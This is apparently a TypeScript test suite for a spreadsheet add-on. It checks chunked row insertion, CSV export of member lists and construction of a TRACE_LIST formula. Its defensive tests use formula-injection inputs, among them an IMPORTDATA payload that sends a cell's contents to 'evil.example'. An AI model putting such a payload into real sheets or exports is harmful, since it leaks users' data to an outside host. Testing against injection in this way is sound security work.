import type { BulkHost, Insertion } from '../../../../shared/panel/bulk-host';
import {
  insertFormula,
  insertRows,
  toFileName,
  toMemberCells,
  toMembersCsv,
  toListFormula,
} from '../../../../shared/panel/lists/insert-members';
import { valueOf } from '../../../../shared/enrich/sheet/cell-values';
import { MemoryGrid } from '../../../fakes/memory-grid';
import Papa from 'papaparse';
import fc from 'fast-check';
import { escapeFormulas } from '../../../../shared/cells/formula-escape';
import { FORMULA_PAYLOADS, HIDDEN_PAYLOADS } from '../../../fakes/formula-payloads';
import { anyCharacter } from '../../../setup/any-character';
import { times } from '../../../setup/chance';
import { readFormulaCall } from '../../../../shared/cells/formulas';

describe('insert members', () => {
  const AT = { sheet: 'sheet-1', sheetName: 'Leads', row: 0, column: 1, value: '', formula: '' };
  const rows = (count: number) =>
    Array.from({ length: count }, (_row, at) => [{ kind: 'text' as const, text: `m${at}`, isLiteral: false }]);

  /** A host over a sheet in memory. @param filled a cell of column B that is in use, from 0; -1: none */
  function hostWith(filled: number, isLate = false, onInserted: (grid: MemoryGrid) => void = () => undefined) {
    const grid = new MemoryGrid([['Domain']]);
    const insertions: Insertion[] = [];
    if (filled >= 0 && !isLate) grid.at(filled, 1).value = 'mine';
    const host = {
      ports: { sheet: grid.sheet },
      activeCell: async () => AT,
      async insertAt(insertion: Insertion) {
        const isHit = filled >= insertion.row && filled < insertion.row + insertion.rows;
        if (isHit) return { is: 'inTheWay', row: filled, column: 1, value: 'mine', cells: 1 };
        insertions.push(insertion);
        const { row, column, content } = insertion;
        const cells = 'cells' in content ? content.cells : [];
        cells.forEach((line, at) => (grid.at(row + at, column).value = valueOf(line[0]!)));
        onInserted(grid);
        return { is: 'done' };
      },
    } as unknown as BulkHost;
    return { host, insertions };
  }

  const IN_THE_WAY =
    'B5001 contains “mine”. Nothing is overwritten: select a cell with enough blank cells below and to the right.';

  test('many rows go to the sheet in several messages, one below the other', async () => {
    const { host, insertions } = hostWith(-1);
    expect(await insertRows(host, rows(4_500))).toEqual({ is: 'done', at: AT, typed: [] });
    expect(insertions.map(({ row, rows: count, columns }) => [row, count, columns])).toEqual([
      [0, 2_000, 1],
      [2_000, 2_000, 1],
      [4_000, 500, 1],
    ]);
  });

  test('a cell in the way of the last message keeps the first from being sent', async () => {
    const { host, insertions } = hostWith(5_000);
    expect(await insertRows(host, rows(6_000))).toEqual({ is: 'stopped', rows: 0, sentence: IN_THE_WAY });
    expect(insertions).toEqual([]);
  });

  test('a cell that was filled meanwhile stops it there, and it is said how many rows there are', async () => {
    const { host, insertions } = hostWith(5_000, true);
    expect(await insertRows(host, rows(6_000))).toEqual({ is: 'stopped', rows: 4_000, sentence: IN_THE_WAY });
    expect(insertions.length).toBe(2);
  });

  test.each<[string, (grid: MemoryGrid) => void]>([
    ['a column inserted before them', ({ rows: lines }) => lines.forEach((line) => line.unshift({ value: '' }))],
    ['a row inserted among them', ({ rows: lines }) => lines.splice(700, 0, [])],
    ['a row deleted above the last', ({ rows: lines }) => lines.splice(700, 1)],
  ])('after %s no more rows are entered beside the others', async (_name, change) => {
    const { host, insertions } = hostWith(-1, false, change);
    expect(await insertRows(host, rows(4_500))).toEqual({
      is: 'stopped',
      rows: 2_000,
      sentence: 'The column "m0" was renamed, or its cells were moved. Undo that change, then retry.',
    });
    expect(insertions.length).toBe(1);
  });

  test('a formula needs room for all that it answers', async () => {
    const { host, insertions } = hostWith(3);
    expect(await insertFormula(host, '=TRACE_LIST("lst_1")', 26, 3)).toMatchObject({ is: 'stopped', rows: 0 });
    expect(await insertFormula(host, '=TRACE_LIST("lst_1")', 3, 3)).toEqual({ is: 'done', at: AT, typed: [] });
    expect(insertions.map(({ content }) => content)).toEqual([{ formula: '=TRACE_LIST("lst_1")' }]);
  });

  test('on a chart there is no cell to insert at', async () => {
    const host = { activeCell: async () => 'object' } as unknown as BulkHost;
    await expect(insertRows(host, rows(1))).rejects.toMatchObject({ code: 'selectionEmpty' });
  });
});

describe('members table', () => {
  const member = (name: string | null, domain: string | null = 'a.example') => ({
    domain,
    name,
    slug: null,
    tier: 'high',
    score: 7,
  });

  test('a table has titles, texts as texts, and numbers as numbers', () => {
    expect(toMemberCells([member('=1+1', null)])).toEqual([
      ['Domain', 'Name', 'Tier', 'Score'].map((text) => ({ kind: 'text', text, isLiteral: false })),
      [
        { kind: 'blank' },
        { kind: 'text', text: '=1+1', isLiteral: true },
        { kind: 'text', text: 'high', isLiteral: false },
        { kind: 'number', number: 7 },
      ],
    ]);
  });

  test('names with quotes, commas and line breaks, and formulas, are safe in CSV', () => {
    const names = ['Smith, "Jones" & Co', '=HYPERLINK("http://x")', '-5', 'two\nlines', 'شركة', '＝SUM(1)'];
    expect(toMembersCsv(names.map((name) => member(name)))).toBe(
      '\ufeffDomain,Name,Tier,Score\r\n' +
        'a.example,"Smith, ""Jones"" & Co",high,7\r\n' +
        'a.example,"\'=HYPERLINK(""http://x"")",high,7\r\n' +
        "a.example,'-5,high,7\r\n" +
        'a.example,"two\nlines",high,7\r\n' +
        'a.example,شركة,high,7\r\n' +
        "a.example,'＝SUM(1),high,7\r\n",
    );
  });

  it.each([...FORMULA_PAYLOADS, ...HIDDEN_PAYLOADS])(
    'exported, %j runs nothing, whatever separates cells',
    (payload) => {
      for (const delimiter of [',', ';', '\t']) {
        const { data } = Papa.parse<string[]>(toMembersCsv([member(payload)]).slice(1), { delimiter });
        expect(data.flat().filter((cell) => /^["\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell))).toEqual([]);
      }
    },
  );

  test('whatever the names are, a reader of CSV finds them again', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: anyCharacter }).filter((name) => name !== '' && escapeFormulas(name) === name)),
        (names) => {
          const { data } = Papa.parse<string[]>(toMembersCsv(names.map((name) => member(name))).slice(1), {
            newline: '\r\n',
          });
          expect(data.slice(1, -1).map(([, name]) => name)).toEqual(names);
        },
      ),
      { numRuns: times(300) },
    );
  });

  test('the file has a name that every system takes', () => {
    expect([toFileName('Q1/Q2: "best" ‮leads '), toFileName('...'), toFileName('x'.repeat(200)).length]).toEqual([
      'Q1 Q2 best leads.csv',
      'list.csv',
      84,
    ]);
  });
});

describe('list formula', () => {
  test.each([
    ['lst_1', { tier: null, search: '' }, 25, '=TRACE_LIST("lst_1")'],
    ['lst_1', { tier: 'high' as const, search: '' }, 50, '=TRACE_LIST("lst_1","","top=50; tier=high")'],
    ['a"b', { tier: null, search: 'x;y' }, 25, '=TRACE_LIST("a""b","","search=\'x;y\'")'],
    ['lst_1', { tier: null, search: "O'Brien, Sons" }, 25, `=TRACE_LIST("lst_1","","search='O''Brien, Sons'")`],
  ])('the formula for %s with %o and %i rows', (listId, filter, rows, formula) => {
    expect(toListFormula(listId, filter, rows)).toBe(formula);
  });

  it.each([...FORMULA_PAYLOADS, ...HIDDEN_PAYLOADS, 'a"),IMPORTDATA("https://evil.example/?"&A1)&("'])(
    '%j stays one argument of one call, wherever it is',
    (payload) => {
      const call = readFormulaCall(toListFormula(payload, { tier: null, search: payload }, 25));
      expect({ id: call?.id, kinds: call?.args.map(({ is }) => is), first: call?.args[0] }).toEqual({
        id: 'TRACE_LIST',
        kinds: ['value', 'value', 'value'],
        first: { is: 'value', value: payload },
      });
    },
  );
});
